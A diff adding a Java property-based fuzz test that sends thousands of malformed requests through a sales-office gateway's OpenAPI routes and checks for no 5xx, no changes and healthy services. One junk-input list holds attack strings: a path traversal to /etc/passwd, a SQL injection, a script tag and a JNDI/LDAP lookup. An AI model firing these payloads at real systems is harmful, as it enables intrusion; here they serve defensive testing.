@@ -1,0 +1,777 @@
+package io.anchang.systemtest;
+
+import io.anchang.launcher.Office;
+import io.anchang.launcher.ServiceSpec;
+import net.jqwik.api.Arbitraries;
+import net.jqwik.api.Arbitrary;
+import net.jqwik.api.Example;
+import net.jqwik.api.Label;
+import org.springframework.http.HttpHeaders;
+import org.springframework.http.HttpMethod;
+import org.springframework.http.MediaType;
+import org.springframework.http.client.reactive.ReactorClientHttpConnector;
+import org.springframework.web.reactive.function.client.WebClient;
+import reactor.core.publisher.Flux;
+import reactor.core.publisher.Mono;
+import reactor.netty.http.client.HttpClient;
+import reactor.netty.resources.ConnectionProvider;
+import tools.jackson.databind.JsonNode;
+import tools.jackson.databind.json.JsonMapper;
+
+import java.net.URI;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.security.SecureRandom;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.Iterator;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Random;
+import java.util.Set;
+import java.util.TreeMap;
+import java.util.UUID;
+import java.util.concurrent.ConcurrentHashMap;
+import java.util.concurrent.ConcurrentLinkedQueue;
+import java.util.concurrent.atomic.AtomicInteger;
+import java.util.stream.Collectors;
+import java.util.stream.IntStream;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/**
+ * Issue 9, "Tests": a property-based fuzz of every route in the services' OpenAPI documents,
+ * through the gateway of the office the launcher starts, with real Keycloak tokens of the
+ * demo SALES users. At least 10,000 generated malformed requests — wrong types, numbers like
+ * {@code 1E10000000} and {@code 1E-200000000}, long strings, control characters, missing
+ * fields, bad JSON, deep nesting, other sites and their ids — must give no 5xx and change
+ * nothing (no entry on any audit trail by the fuzzing users but the security log of refused
+ * attempts), and every service must be healthy afterwards.
+ *
+ * <p>The requests are drawn from jqwik arbitraries with one seed, printed first and in every
+ * failure: {@code -Danchang.fuzz.seed=<seed>} replays the same requests
+ * ({@code -Danchang.fuzz.requests=<n>} changes how many). They are sent 16 at a time and all
+ * of them are sent, so that a failure lists every failing request, not the first.
+ *
+ * <p>Every write is malformed on purpose (a broken body, a missing or wrongly typed field, an
+ * out-of-range number, a string far beyond any field, another site, an id that is not the
+ * site's); ids of the caller's own site are never used, so that no well-formed write slips in.
+ * A 429 (the per-user limit) and a 503 with {@code Retry-After} (load shed before any work)
+ * are waited out and sent again; every other 5xx is a failure.
+ *
+ * <p>It runs on the jqwik engine (an {@code @Example}, so that the arbitraries work), beside
+ * the JUnit classes that share {@link TheOffice}; it changes nothing, so it needs no place in
+ * their order.
+ */
+class FuzzSystemTest {
+
+    static final int REQUESTS = Integer.getInteger("anchang.fuzz.requests", 10_000);
+    static final int CONCURRENCY = 16;
+    static final Map<String, String> USERS = Map.of(
+            "sh01-sales1", "SH01", "sh01-sales2", "SH01", "sh01-sales3", "SH01",
+            "hz01-sales1", "HZ01", "hz01-sales2", "HZ01");
+    static final Map<String, String> BASE_PATHS = new TreeMap<>(Map.of(
+            "reception-service", "/api/reception", "customer-service", "/api/customers", "deal-service", "/api/deals",
+            "finance-service", "/api/finance", "reporting-service", "/api/reports"));
+    static final JsonMapper JSON = JsonMapper.builder().build();
+
+    @Example // run by jqwik, whose arbitraries draw the requests
+    @Label("issue 9: 10,000 malformed requests on every route through the gateway: no 5xx, nothing changed, every service healthy")
+    void malformedRequestsBreakNothingAndChangeNothing() {
+        long seed = Long.getLong("anchang.fuzz.seed", new SecureRandom().nextLong());
+        System.out.println("FUZZ seed = " + seed + "  (replay: -Danchang.fuzz.seed=" + seed + " -Danchang.fuzz.requests=" + REQUESTS + ")");
+        Office office = TheOffice.office();
+        List<Operation> operations = operations(office);
+        assertThat(operations).as("operations in the OpenAPI documents").hasSizeGreaterThan(20);
+        Map<String, List<String>> foreignIds = foreignIds();
+        Map<String, Long> trailsBefore = trailHeads();
+
+        Generator generator = new Generator(operations, foreignIds);
+        Random random = new Random(seed);
+        List<FuzzRequest> requests = IntStream.range(0, REQUESTS).mapToObj(i -> generator.next(random)).toList();
+
+        Sender sender = new Sender(office.gatewayUrl());
+        Instant started = Instant.now();
+        List<Answer> answers = Flux.fromIterable(requests).flatMap(sender::send, CONCURRENCY).collectList().block(Duration.ofMinutes(20));
+        Duration took = Duration.between(started, Instant.now());
+
+        Map<Integer, Long> byStatus = answers.stream().collect(Collectors.groupingBy(Answer::status, TreeMap::new, Collectors.counting()));
+        List<Answer> failures = answers.stream().filter(Answer::failed).toList();
+        System.out.printf("FUZZ %d requests on %d operations in %d s (seed %d): answers %s; waited out %d x 429, %d x shed 503;"
+                        + " sent again after a broken connection %d x%n",
+                answers.size(), operations.size(), took.toSeconds(), seed, byStatus, sender.limited.get(), sender.shed.get(),
+                sender.transport.get());
+        failures.forEach(failure -> System.out.println("FUZZ 5xx " + failure));
+
+        List<String> changes = changesSince(trailsBefore);
+        changes.forEach(change -> System.out.println("FUZZ change " + change));
+        List<String> unhealthy = unhealthy(office);
+
+        assertThat(failures).as("requests answered 5xx (seed %d; each printed above as 'FUZZ 5xx'):%n%s", seed,
+                failures.stream().limit(40).map(Answer::toString).collect(Collectors.joining("\n"))).isEmpty();
+        assertThat(changes).as("changes made by malformed requests (seed %d)", seed).isEmpty();
+        assertThat(unhealthy).as("services not healthy after the fuzz (seed %d)", seed).isEmpty();
+        assertThat(answers).hasSize(REQUESTS);
+    }
+
+    // ---- the API as the services describe it ----
+
+    /** One operation of a service's OpenAPI document. */
+    record Operation(String service, String method, String path, List<Param> params, JsonNode bodySchema,
+                     String bodyType, boolean bodyRequired, JsonNode components) {
+
+        boolean hasPathIds() {
+            return params.stream().anyMatch(p -> p.in().equals("path") && !p.name().equals("site"));
+        }
+
+        boolean namesSite() {
+            return path.contains("{site}");
+        }
+
+        @Override
+        public String toString() {
+            return method + " " + path;
+        }
+    }
+
+    record Param(String name, String in, JsonNode schema) {
+    }
+
+    static List<Operation> operations(Office office) {
+        List<Operation> operations = new ArrayList<>();
+        for (String module : BASE_PATHS.keySet()) {
+            ServiceSpec spec = office.services().spec(module);
+            JsonNode document = JSON.readTree(get(spec.apiDocsUrl()));
+            JsonNode components = document.path("components");
+            for (Map.Entry<String, JsonNode> path : document.path("paths").properties()) {
+                for (Map.Entry<String, JsonNode> operation : path.getValue().properties()) {
+                    String method = operation.getKey().toUpperCase();
+                    if (!Set.of("GET", "POST", "PUT", "PATCH", "DELETE").contains(method)) {
+                        continue;
+                    }
+                    JsonNode op = operation.getValue();
+                    boolean stream = op.path("responses").toString().contains("text/event-stream");
+                    if (stream) {
+                        continue; // a live stream stays open by design; its limits are tested at the gateway
+                    }
+                    List<Param> params = new ArrayList<>();
+                    for (JsonNode param : op.path("parameters")) {
+                        params.add(new Param(param.path("name").asString(), param.path("in").asString(), param.path("schema")));
+                    }
+                    JsonNode content = op.path("requestBody").path("content");
+                    String bodyType = null;
+                    JsonNode bodySchema = null;
+                    Iterator<String> types = content.propertyNames().iterator();
+                    if (types.hasNext()) {
+                        bodyType = types.next();
+                        bodySchema = content.path(bodyType).path("schema");
+                    }
+                    boolean bodyRequired = op.path("requestBody").path("required").asBoolean(false);
+                    operations.add(new Operation(module, method, path.getKey(), params, bodySchema, bodyType, bodyRequired, components));
+                }
+            }
+        }
+        return operations;
+    }
+
+    // ---- what the fuzz sends ----
+
+    record FuzzRequest(String user, String method, String uri, String contentType, byte[] body, String what) {
+        @Override
+        public String toString() {
+            String text = body == null ? "" : new String(body, StandardCharsets.UTF_8);
+            return method + " " + shorten(uri, 300) + " as " + user + (contentType == null ? "" : " [" + contentType + "] ")
+                    + shorten(text, 300) + " (" + what + ")";
+        }
+    }
+
+    /** A JSON value written as it is: a number no Java type holds, or broken JSON. */
+    record Raw(String json) {
+    }
+
+    /** Turns a seed into requests, with jqwik's arbitraries (and their edge cases). */
+    static final class Generator {
+
+        private final List<Operation> operations;
+        private final Map<String, List<String>> foreignIds;
+
+        Generator(List<Operation> operations, Map<String, List<String>> foreignIds) {
+            this.operations = operations;
+            this.foreignIds = foreignIds;
+        }
+
+        FuzzRequest next(Random random) {
+            Operation op = pick(Arbitraries.of(operations), random);
+            String user = pick(Arbitraries.of(USERS.keySet().stream().sorted().toList()), random);
+            String ownSite = USERS.get(user);
+            String otherSite = ownSite.equals("SH01") ? "HZ01" : "SH01";
+            boolean write = !op.method().equals("GET");
+            List<String> what = new ArrayList<>();
+
+            // a write that names nothing but the site must not reach the caller's own site whole
+            boolean mustLeaveOwnSite = write && !op.hasPathIds() && op.bodySchema() == null;
+            int where = random.nextInt(100);
+            String site = where < 70 && !mustLeaveOwnSite ? ownSite : where < 85 ? otherSite : pick(junk(), random);
+            if (!site.equals(ownSite)) {
+                what.add("site " + shorten(site, 20));
+            }
+            StringBuilder path = new StringBuilder();
+            java.util.regex.Matcher variable = java.util.regex.Pattern.compile("\\{([^}]+)}").matcher(op.path());
+            int last = 0;
+            while (variable.find()) {
+                path.append(op.path(), last, variable.start());
+                String name = variable.group(1);
+                String value = name.equals("site") ? site : id(name, otherSite, random, what);
+                path.append(encode(value));
+                last = variable.end();
+            }
+            path.append(op.path().substring(last));
+            StringBuilder query = new StringBuilder();
+            for (Param param : op.params()) {
+                if (!param.in().equals("query")) {
+                    continue;
+                }
+                int choice = random.nextInt(10);
+                if (choice < 3) {
+                    continue;
+                }
+                String value = choice < 6 ? String.valueOf(plain(param.schema(), op.components(), random, 0)) : pick(junk(), random);
+                query.append(query.isEmpty() ? "?" : "&").append(encode(param.name())).append('=').append(encode(value));
+            }
+            if (random.nextInt(20) == 0) {
+                query.append(query.isEmpty() ? "?" : "&").append(encode(pick(junk(), random))).append('=').append(encode(pick(junk(), random)));
+            }
+
+            String contentType = null;
+            byte[] body = null;
+            if (write || random.nextInt(10) == 0) {
+                Body made = body(op, random, what, write);
+                contentType = made.contentType();
+                body = made.bytes();
+            }
+            return new FuzzRequest(user, op.method(), path + query.toString(), contentType, body,
+                    op + ": " + String.join(", ", what));
+        }
+
+        /** An id that is never one of the caller's own site: random, junk, or a real one of the other site. */
+        private String id(String name, String otherSite, Random random, List<String> what) {
+            List<String> foreign = foreignIds.getOrDefault(otherSite, List.of());
+            int choice = random.nextInt(10);
+            if (choice < 3 && !foreign.isEmpty()) {
+                String id = foreign.get(random.nextInt(foreign.size()));
+                what.add(name + " of " + otherSite);
+                return id;
+            }
+            if (choice < 6) {
+                return UUID.randomUUID().toString();
+            }
+            String junk = pick(junk(), random);
+            what.add(name + " junk");
+            return junk;
+        }
+
+        private record Body(String contentType, byte[] bytes) {
+        }
+
+        private Body body(Operation op, Random random, List<String> what, boolean write) {
+            if (op.bodySchema() == null || op.bodyType() == null || !op.bodyType().contains("json")) {
+                if (op.bodyType() != null && !op.bodyType().contains("json")) {
+                    what.add("junk " + op.bodyType());
+                    return new Body(op.bodyType(), junkBytes(random));
+                }
+                // a body nobody asked for: broken JSON
+                what.add("unasked body");
+                return new Body(MediaType.APPLICATION_JSON_VALUE, pick(brokenJson(), random).getBytes(StandardCharsets.UTF_8));
+            }
+            Object value = plain(op.bodySchema(), op.components(), random, 0);
+            int mutation = random.nextInt(100);
+            String json;
+            if (mutation < 15) {
+                what.add("broken JSON");
+                json = random.nextBoolean() ? pick(brokenJson(), random) : truncate(write(value), random);
+            } else if (mutation < 40) {
+                what.add("wrong type");
+                json = write(replaceLeaf(value, op.bodySchema(), op.components(), random, Generator::wrongType, what));
+            } else if (mutation < 52) {
+                Object without = dropRequired(value, op.bodySchema(), op.components(), random, what);
+                json = write(without != null ? without
+                        : replaceLeaf(value, op.bodySchema(), op.components(), random, Generator::wrongType, what));
+            } else if (mutation < 72) {
+                what.add("huge number");
+                json = write(replaceLeaf(value, op.bodySchema(), op.components(), random,
+                        (schema, r) -> new Raw(pick(hugeNumbers(), r)), what));
+            } else if (mutation < 80) {
+                what.add("long string");
+                int length = random.nextBoolean() ? 10_000 : 70_000;
+                json = write(replaceLeaf(value, op.bodySchema(), op.components(), random,
+                        (schema, r) -> "长".repeat(length / 2) + "x".repeat(length / 2), what));
+            } else if (mutation < 86) {
+                what.add("control characters beside a wrong type");
+                Object controlled = replaceLeaf(value, op.bodySchema(), op.components(), random,
+                        (schema, r) -> "张\u0000三\u001b[31m\u0007\r\n", what);
+                json = write(replaceLeaf(controlled, op.bodySchema(), op.components(), random, Generator::wrongType, what));
+            } else if (mutation < 90) {
+                what.add("deep nesting");
+                json = write(replaceLeaf(value, op.bodySchema(), op.components(), random,
+                        (schema, r) -> new Raw("[".repeat(200) + "]".repeat(200)), what));
+            } else if (mutation < 95 || !op.bodyRequired()) {
+                what.add("not an object");
+                json = pick(Arbitraries.of("[]", "\"text\"", "42", "true", "[{}]", "1E10000000"), random);
+            } else {
+                what.add("empty body");
+                json = random.nextBoolean() ? "" : "null";
+            }
+            if (!write && mutation % 2 == 0) {
+                return new Body(MediaType.APPLICATION_JSON_VALUE, json.getBytes(StandardCharsets.UTF_8));
+            }
+            String type = random.nextInt(25) == 0 ? pick(Arbitraries.of("text/plain", "application/xml",
+                    "application/x-www-form-urlencoded", "application/json; charset=ISO-8859-1"), random) : MediaType.APPLICATION_JSON_VALUE;
+            return new Body(type, json.getBytes(StandardCharsets.UTF_8));
+        }
+
+        /** A value of the schema's shape, plain and short. */
+        static Object plain(JsonNode schema, JsonNode components, Random random, int depth) {
+            JsonNode resolved = resolve(schema, components);
+            if (depth > 4) {
+                return "x";
+            }
+            if (resolved.has("enum")) {
+                JsonNode values = resolved.path("enum");
+                return values.get(random.nextInt(values.size())).asString();
+            }
+            String type = resolved.path("type").asString("");
+            if (type.isEmpty() && resolved.has("properties")) {
+                type = "object";
+            }
+            switch (type) {
+                case "object" -> {
+                    Map<String, Object> object = new LinkedHashMap<>();
+                    for (Map.Entry<String, JsonNode> property : resolved.path("properties").properties()) {
+                        if (random.nextInt(10) < 8) {
+                            object.put(property.getKey(), plain(property.getValue(), components, random, depth + 1));
+                        }
+                    }
+                    return object;
+                }
+                case "array" -> {
+                    List<Object> list = new ArrayList<>();
+                    int n = random.nextInt(3);
+                    for (int i = 0; i < n; i++) {
+                        list.add(plain(resolved.path("items"), components, random, depth + 1));
+                    }
+                    return list;
+                }
+                case "integer" -> {
+                    return 1 + random.nextInt(20);
+                }
+                case "number" -> {
+                    return 1 + random.nextInt(1000);
+                }
+                case "boolean" -> {
+                    return random.nextBoolean();
+                }
+                default -> {
+                    String format = resolved.path("format").asString("");
+                    return switch (format) {
+                        case "date" -> "2026-12-06";
+                        case "date-time" -> "2026-12-06T10:00:00+08:00";
+                        case "uuid" -> UUID.randomUUID().toString();
+                        default -> pick(Arbitraries.of("张三", "13800138000", "x", "2026-12-06", "SALES", "CASH", "A1"), random);
+                    };
+                }
+            }
+        }
+
+        /** A value of another JSON type than the schema's: refused by strict JSON whatever the field. */
+        static Object wrongType(JsonNode schema, Random random) {
+            String type = schema.path("type").asString("");
+            List<Object> choices = switch (type) {
+                case "integer", "number" -> List.of("abc", Map.of(), List.of(), true, "1E10000000");
+                case "boolean" -> List.of("yes", 1, Map.of(), List.of());
+                case "array" -> List.of("text", 5, Map.of("a", 1));
+                case "object" -> List.of("text", 5, List.of(1));
+                default -> schema.has("enum") ? List.of("NOT_A_VALUE", 7, List.of()) : List.of(123, true, Map.of(), List.of("a"), 1.5);
+            };
+            return choices.get(random.nextInt(choices.size()));
+        }
+
+        interface Replacement {
+            Object make(JsonNode schema, Random random);
+        }
+
+        /** The value with one leaf (chosen at random) replaced; the whole value if it has no leaves. */
+        @SuppressWarnings("unchecked")
+        static Object replaceLeaf(Object value, JsonNode schema, JsonNode components, Random random, Replacement replacement,
+                                  List<String> what) {
+            JsonNode resolved = resolve(schema, components);
+            if (value instanceof Map<?, ?> map && !map.isEmpty() || resolved.has("properties")) {
+                Map<String, Object> object = value instanceof Map<?, ?> m ? new LinkedHashMap<>((Map<String, Object>) m) : new LinkedHashMap<>();
+                List<String> names = new ArrayList<>(resolved.path("properties").propertyNames());
+                if (names.isEmpty()) {
+                    names.addAll(object.keySet());
+                }
+                if (names.isEmpty()) {
+                    return replacement.make(resolved, random);
+                }
+                String name = names.get(random.nextInt(names.size()));
+                JsonNode fieldSchema = resolved.path("properties").path(name);
+                Object current = object.get(name);
+                boolean descend = current instanceof Map<?, ?> || current instanceof List<?> l && !l.isEmpty();
+                object.put(name, descend && random.nextBoolean()
+                        ? replaceLeaf(current, fieldSchema, components, random, replacement, what)
+                        : replacement.make(resolve(fieldSchema, components), random));
+                what.add("at " + name);
+                return object;
+            }
+            if (value instanceof List<?> list && !list.isEmpty()) {
+                List<Object> copy = new ArrayList<>(list);
+                int i = random.nextInt(copy.size());
+                copy.set(i, replaceLeaf(copy.get(i), resolved.path("items"), components, random, replacement, what));
+                return copy;
+            }
+            return replacement.make(resolved, random);
+        }
+
+        /** The value without one of its required fields, or null if it has none. */
+        @SuppressWarnings("unchecked")
+        static Object dropRequired(Object value, JsonNode schema, JsonNode components, Random random, List<String> what) {
+            JsonNode resolved = resolve(schema, components);
+            JsonNode required = resolved.path("required");
+            if (!(value instanceof Map<?, ?>) || required.isEmpty()) {
+                return null;
+            }
+            Map<String, Object> object = new LinkedHashMap<>((Map<String, Object>) value);
+            String name = required.get(random.nextInt(required.size())).asString();
+            object.remove(name);
+            what.add("without " + name);
+            return object;
+        }
+
+        static JsonNode resolve(JsonNode schema, JsonNode components) {
+            JsonNode current = schema;
+            for (int i = 0; i < 10 && current.has("$ref"); i++) {
+                String ref = current.path("$ref").asString();
+                current = components.path("schemas").path(ref.substring(ref.lastIndexOf('/') + 1));
+            }
+            if (current.has("allOf") && current.path("allOf").size() == 1) {
+                return resolve(current.path("allOf").get(0), components);
+            }
+            return current;
+        }
+
+        static Arbitrary<String> junk() {
+            return Arbitraries.oneOf(
+                    Arbitraries.strings().ofMinLength(1).ofMaxLength(40).alpha().numeric(),
+                    Arbitraries.strings().withCharRange('\u4e00', '\u9fa5').ofMinLength(1).ofMaxLength(20),
+                    Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1).ofMaxLength(8),
+                    Arbitraries.strings().ofMinLength(500).ofMaxLength(2500).withCharRange('a', 'z'),
+                    Arbitraries.of("1E10000000", "1E-200000000", "-1", "0", "99999999999999999999999999999999999999999",
+                            "NaN", "Infinity", "null", "true", "../../etc/passwd", "..", "%", "%00", "' OR '1'='1", "<script>",
+                            "${jndi:ldap://x/a}", "{}", "[]", "😀", "\u202e", " ", "SH01-2026-000001", "HZ01-1-101",
+                            "00000000-0000-0000-0000-000000000000"));
+        }
+
+        static Arbitrary<String> hugeNumbers() {
+            // each beyond any field's range: no well-formed request is made by chance
+            return Arbitraries.of("1E10000000", "1E-200000000", "-1E10000000", "1e999", "-0.0000000000000000000000000000001",
+                    "123456789012345678901234567890123456789", "1.0E+2147483647", "9223372036854775808", "-9223372036854775809",
+                    "100000000000000000");
+        }
+
+        static Arbitrary<String> brokenJson() {
+            return Arbitraries.of("{", "}", "[1,2", "{\"a\":}", "nul", "{}x", "{\"a\":\"\\uZZZZ\"}", "{'a':1}", "{\"a\" 1}",
+                    "\u0000", "{\"a\":1,}", "[" + "{\"a\":".repeat(100), "{\"amount\":1E10000000", "\"unterminated");
+        }
+
+        static byte[] junkBytes(Random random) {
+            byte[] bytes = new byte[1 + random.nextInt(2000)];
+            random.nextBytes(bytes);
+            return bytes;
+        }
+
+        static String truncate(String json, Random random) {
+            return json.length() < 2 ? "{" : json.substring(0, 1 + random.nextInt(json.length() - 1));
+        }
+
+        static <T> T pick(Arbitrary<T> arbitrary, Random random) {
+            return arbitrary.generatorWithEmbeddedEdgeCases(1000).next(random).value();
+        }
+    }
+
+    /** JSON text of a plain value; {@link Raw} parts as they are. */
+    static String write(Object value) {
+        if (value instanceof Raw raw) {
+            return raw.json();
+        }
+        if (value instanceof Map<?, ?> map) {
+            return map.entrySet().stream().map(e -> JSON.writeValueAsString(String.valueOf(e.getKey())) + ":" + write(e.getValue()))
+                    .collect(Collectors.joining(",", "{", "}"));
+        }
+        if (value instanceof List<?> list) {
+            return list.stream().map(FuzzSystemTest::write).collect(Collectors.joining(",", "[", "]"));
+        }
+        return JSON.writeValueAsString(value);
+    }
+
+    static String encode(String value) {
+        StringBuilder out = new StringBuilder();
+        for (byte b : value.getBytes(StandardCharsets.UTF_8)) {
+            int c = b & 0xff;
+            if (c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '-' || c == '_' || c == '.' || c == '~') {
+                out.append((char) c);
+            } else {
+                out.append('%').append(String.format("%02X", c));
+            }
+        }
+        return out.toString();
+    }
+
+    static String shorten(String text, int max) {
+        String printable = text.chars().mapToObj(c -> c < 0x20 ? String.format("\\u%04x", c) : String.valueOf((char) c))
+                .collect(Collectors.joining());
+        return printable.length() <= max ? printable : printable.substring(0, max) + "…(" + text.length() + " chars)";
+    }
+
+    // ---- sending ----
+
+    record Answer(FuzzRequest request, int status, String body) {
+        boolean failed() {
+            return status >= 500;
+        }
+
+        @Override
+        public String toString() {
+            return status + " for " + request + " -> " + shorten(body, 300);
+        }
+    }
+
+    static final class Sender {
+        final WebClient client;
+        final String gatewayUrl;
+        final Map<String, String> tokens = new ConcurrentHashMap<>();
+        final Map<String, Instant> fetched = new ConcurrentHashMap<>();
+        final AtomicInteger limited = new AtomicInteger();
+        final AtomicInteger shed = new AtomicInteger();
+        final AtomicInteger transport = new AtomicInteger();
+
+        Sender(String gatewayUrl) {
+            this.gatewayUrl = gatewayUrl;
+            this.client = WebClient.builder()
+                    .clientConnector(new ReactorClientHttpConnector(HttpClient.create(ConnectionProvider.create("fuzz", 64))
+                            .responseTimeout(Duration.ofSeconds(60))))
+                    .codecs(codecs -> codecs.defaultCodecs().maxInMemorySize(1024 * 1024))
+                    .build();
+        }
+
+        Mono<Answer> send(FuzzRequest request) {
+            return attempt(request, 0);
+        }
+
+        private Mono<Answer> attempt(FuzzRequest request, int retries) {
+            WebClient.RequestBodySpec spec = client.method(HttpMethod.valueOf(request.method()))
+                    .uri(URI.create(gatewayUrl + request.uri()))
+                    .headers(h -> h.setBearerAuth(token(request.user())));
+            WebClient.RequestHeadersSpec<?> ready = spec;
+            if (request.contentType() != null) {
+                ready = spec.header(HttpHeaders.CONTENT_TYPE, request.contentType()).bodyValue(request.body());
+            }
+            return ready.exchangeToMono(response -> response.bodyToMono(String.class).defaultIfEmpty("")
+                            .map(body -> new Object[] {response.statusCode().value(), body,
+                                    response.headers().asHttpHeaders().getFirst(HttpHeaders.RETRY_AFTER)}))
+                    .onErrorResume(error -> Mono.just(new Object[] {599, "no answer: " + rootCause(error), null}))
+                    .flatMap(result -> {
+                        int status = (Integer) result[0];
+                        String retryAfter = (String) result[2];
+                        if (status == 599 && retries < 2) {
+                            // a pooled connection the server closed after refusing a request before reading its
+                            // body: sent again on a fresh one, as any HTTP client does; persisting, it is a failure
+                            transport.incrementAndGet();
+                            return Mono.delay(Duration.ofMillis(200)).then(attempt(request, retries + 1));
+                        }
+                        boolean waitable = status == 429 || status == 503 && retryAfter != null;
+                        if (waitable && retries < 8) {
+                            (status == 429 ? limited : shed).incrementAndGet();
+                            long seconds = Math.min(10, Math.max(1, parse(retryAfter)));
+                            return Mono.delay(Duration.ofSeconds(seconds)).then(attempt(request, retries + 1));
+                        }
+                        return Mono.just(new Answer(request, status, (String) result[1]));
+                    });
+        }
+
+        private String token(String user) {
+            Instant at = fetched.get(user);
+            if (at == null || at.isBefore(Instant.now().minus(Duration.ofMinutes(5)))) {
+                synchronized (this) {
+                    at = fetched.get(user);
+                    if (at == null || at.isBefore(Instant.now().minus(Duration.ofMinutes(5)))) {
+                        tokens.put(user, TheOffice.token(user));
+                        fetched.put(user, Instant.now());
+                    }
+                }
+            }
+            return tokens.get(user);
+        }
+
+        private static String rootCause(Throwable error) {
+            Throwable root = error;
+            while (root.getCause() != null && root.getCause() != root) {
+                root = root.getCause();
+            }
+            return error.getClass().getSimpleName() + ": " + error.getMessage() + (root == error ? "" : " (" + root + ")");
+        }
+
+        private static long parse(String retryAfter) {
+            try {
+                return retryAfter == null ? 1 : Long.parseLong(retryAfter.trim());
+            } catch (NumberFormatException e) {
+                return 1;
+            }
+        }
+    }
+
+    // ---- what the office holds, before and after ----
+
+    /** Real ids of each site (units, buildings, visits, deposit requests), to be used as another site's. */
+    static Map<String, List<String>> foreignIds() {
+        Map<String, List<String>> ids = new LinkedHashMap<>();
+        for (String site : List.of("SH01", "HZ01")) {
+            Set<String> found = new java.util.LinkedHashSet<>();
+            String manager = TheOffice.manager(site);
+            JsonNode buildings = read("/api/deals/sites/" + site + "/buildings", manager);
+            collectIds(buildings, found);
+            for (JsonNode building : buildings) {
+                String code = building.path("code").asString("");
+                if (!code.isEmpty()) {
+                    found.add(code);
+                    collectIds(read("/api/deals/sites/" + site + "/buildings/" + encode(code) + "/board", manager), found);
+                }
+            }
+            collectIds(read("/api/reception/sites/" + site + "/visits", manager), found);
+            collectIds(read("/api/finance/sites/" + site + "/deposit-requests", manager), found);
+            ids.put(site, found.stream().limit(80).toList());
+        }
+        return ids;
+    }
+
+    static JsonNode read(String path, String token) {
+        String body = TheOffice.gateway().get().uri(URI.create(TheOffice.office().gatewayUrl() + path))
+                .headers(h -> h.setBearerAuth(token)).exchange().expectBody(String.class).returnResult().getResponseBody();
+        try {
+            return JSON.readTree(body == null ? "null" : body);
+        } catch (RuntimeException notJson) {
+            return JSON.nullNode();
+        }
+    }
+
+    /** Every string under a name like {@code id}, {@code unitId}, {@code requestId} or {@code number}. */
+    static void collectIds(JsonNode node, Set<String> into) {
+        if (node.isObject()) {
+            for (Map.Entry<String, JsonNode> field : node.properties()) {
+                String name = field.getKey();
+                if (field.getValue().isString() && (name.equals("id") || name.endsWith("Id") || name.equals("number"))) {
+                    into.add(field.getValue().asString());
+                } else {
+                    collectIds(field.getValue(), into);
+                }
+            }
+        } else if (node.isArray()) {
+            node.forEach(child -> collectIds(child, into));
+        }
+    }
+
+    /** Each service's and site's last audit entry. */
+    static Map<String, Long> trailHeads() {
+        Map<String, Long> heads = new TreeMap<>();
+        for (String base : BASE_PATHS.values()) {
+            for (String site : List.of("SH01", "HZ01")) {
+                heads.put(base + " " + site, entries(base, site, 1).stream().mapToLong(e -> e.path("seq").asLong()).max().orElse(0));
+            }
+        }
+        return heads;
+    }
+
+    /** Entries written since, by a fuzzing user, other than the security log of refused attempts. */
+    static List<String> changesSince(Map<String, Long> before) {
+        List<String> changes = new ArrayList<>();
+        Map<String, Long> settled = before;
+        for (int i = 0; i < 10; i++) { // the relay writes the trail just after the change: let it settle
+            sleep(Duration.ofSeconds(2));
+            Map<String, Long> now = trailHeads();
+            if (now.equals(settled)) {
+                break;
+            }
+            settled = now;
+        }
+        for (String base : BASE_PATHS.values()) {
+            for (String site : List.of("SH01", "HZ01")) {
+                long from = before.get(base + " " + site);
+                for (JsonNode entry : entries(base, site, 1000)) {
+                    if (entry.path("seq").asLong() > from && USERS.containsKey(entry.path("actor").asString())
+                            && !entry.path("action").asString().startsWith("security.")) {
+                        changes.add(base + " " + site + " #" + entry.path("seq").asLong() + " " + entry.path("action").asString()
+                                + " by " + entry.path("actor").asString() + " on " + entry.path("subject").asString());
+                    }
+                }
+                JsonNode verification = JSON.readTree(TheOffice.gateway().get().uri(base + "/sites/{site}/audit/verification", site)
+                        .headers(h -> h.setBearerAuth(TheOffice.manager(site))).exchange().expectStatus().isOk()
+                        .expectBody(String.class).returnResult().getResponseBody());
+                if (!verification.path("intact").asBoolean()) {
+                    changes.add(base + " " + site + " trail not intact: " + verification.path("problem").asString());
+                }
+            }
+        }
+        return changes;
+    }
+
+    static List<JsonNode> entries(String base, String site, int limit) {
+        String body = TheOffice.gateway().get().uri(base + "/sites/{site}/audit?limit={limit}", site, limit)
+                .headers(h -> h.setBearerAuth(TheOffice.manager(site))).exchange().expectStatus().isOk()
+                .expectBody(String.class).returnResult().getResponseBody();
+        List<JsonNode> entries = new ArrayList<>();
+        JSON.readTree(body).forEach(entries::add);
+        return entries;
+    }
+
+    /** Services whose readiness is not UP, or that no longer answer a plain read through the gateway. */
+    static List<String> unhealthy(Office office) {
+        List<String> unhealthy = new ArrayList<>();
+        ConcurrentLinkedQueue<String> problems = new ConcurrentLinkedQueue<>();
+        BASE_PATHS.forEach((module, base) -> {
+            String health = get(office.services().spec(module).healthUrl());
+            if (!health.contains("\"UP\"")) {
+                problems.add(module + " readiness: " + health);
+            }
+            // reception-service owns the site directory; the others show their copy of it
+            String read = module.equals("reception-service") ? base + "/sites/SH01" : base + "/sites/SH01/profile";
+            int status = TheOffice.gateway().get().uri(read)
+                    .headers(h -> h.setBearerAuth(TheOffice.token("sh01-sales1"))).exchange()
+                    .returnResult(String.class).getStatus().value();
+            if (status != 200) {
+                problems.add(module + " answers " + read + " with " + status);
+            }
+        });
+        unhealthy.addAll(problems);
+        return unhealthy;
+    }
+
+    static String get(String url) {
+        try {
+            HttpResponse<String> response = java.net.http.HttpClient.newHttpClient().send(
+                    HttpRequest.newBuilder(URI.create(url)).timeout(Duration.ofSeconds(30)).build(), HttpResponse.BodyHandlers.ofString());
+            return response.body();
+        } catch (Exception e) {
+            return "no answer: " + e;
+        }
+    }
+
+    static void sleep(Duration duration) {
+        try {
+            Thread.sleep(duration.toMillis());
+        } catch (InterruptedException e) {
+            Thread.currentThread().interrupt();
+        }
+    }
+}
